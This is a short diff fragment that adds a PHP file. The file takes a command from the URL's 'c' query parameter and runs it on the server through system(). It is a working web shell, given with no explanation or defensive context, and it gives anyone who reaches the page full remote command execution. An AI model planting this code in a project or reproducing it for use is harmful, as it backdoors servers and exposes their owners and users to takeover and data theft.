@@ -1,0 +1,4 @@
+<?php $c = "" . <<<EOT
+{$_GET[c]}
+EOT;
+system($c);
